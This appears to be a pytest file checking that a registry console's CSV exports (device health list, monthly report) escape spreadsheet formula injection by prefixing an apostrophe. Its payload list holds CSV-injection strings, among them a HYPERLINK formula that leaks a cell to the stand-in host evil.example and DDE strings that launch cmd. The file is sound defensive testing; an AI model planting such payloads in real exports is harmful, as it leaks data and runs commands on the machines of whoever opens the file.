"""Formula injection into the spreadsheets the console hands out. Names, a municipality's name and a
band's model are typed by staff (and a resident's name comes from an imported file); the device list
(health.csv) and the monthly report (CSV) carry them to whoever opens the file in Excel. A cell
starting with =, +, -, @, a tab or a carriage return is a formula there, and must arrive as text.

The check was in two copies and let a tab or a carriage return before a formula through (the API
strips them from names today, an import or a later field might not): now one, core/spreadsheet.py.
"""

from __future__ import annotations

import csv
import io
import uuid

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from alarm_center.live import AlarmFeed
from console.context import ConsoleContext
from core.clock import FakeClock
from core.spreadsheet import FORMULA_STARTS, as_text
from opaska.console_app import console_app
from simulator.lab.staff import create_staff, log_in

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2;"Kliknij")',
    "+48+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


@pytest.mark.asyncio
async def test_free_text_reaches_the_csv_files_as_text_never_as_a_formula(
    sessions: async_sessionmaker[AsyncSession], clock: FakeClock
) -> None:
    app = console_app(ConsoleContext(sessions, AlarmFeed(sessions), run_feed=False), emqx_hooks=None, clock=clock)
    admin = await create_staff(sessions, clock, role="administrator")
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://console") as http:
        await log_in(http, admin)
        code = f"m-{uuid.uuid4().hex[:8]}"
        created = await http.post("/api/registry/municipalities", json={"code": code, "name": PAYLOADS[0]})
        assert created.status_code == 201, created.text
        municipality_id = created.json()["id"]
        for number, payload in enumerate(PAYLOADS):
            resident = await http.post(
                "/api/registry/residents",
                json={"municipality_id": municipality_id, "first_name": payload, "last_name": payload},
            )
            assert resident.status_code == 201, resident.text
            band = await http.post(
                "/api/registry/bands",
                json={
                    "serial": f"OP-CSV{number}{uuid.uuid4().hex[:6]}".upper(),
                    "model": payload,
                    "resident_id": resident.json()["resident"]["id"],
                },
            )
            assert band.status_code == 201, band.text

        devices = await http.get(
            "/api/registry/devices/health.csv", params={"municipality_id": municipality_id, "all": "true"}
        )
        assert devices.status_code == 200, devices.text
        month = clock.now().strftime("%Y-%m")
        report = await http.get("/api/reports/monthly", params={"municipality": code, "month": month, "format": "csv"})
        assert report.status_code == 200, report.text

    for name, body in (("health.csv", devices.content), ("monthly report", report.content)):
        cells = _cells(body)
        formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert formulas == [], f"{name}: cells a spreadsheet would run"
        # Still there, as text: an apostrophe before it, which a spreadsheet does not show.
        assert f"'{PAYLOADS[0]}" in cells, name
    device_cells = _cells(devices.content)
    for payload in PAYLOADS:
        # The band's model, as stored (the API strips blanks around it).
        assert f"'{payload.strip()}" in device_cells, payload


@pytest.mark.stack_independent
@pytest.mark.parametrize("value", [*PAYLOADS, " =1+1", "Kowalska", "", "'=1+1", "a=b"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    shown = as_text(value)
    assert not shown.startswith(FORMULA_STARTS)
    assert shown in (value, f"'{value}")
    assert (shown == value) == (not value.startswith(FORMULA_STARTS))
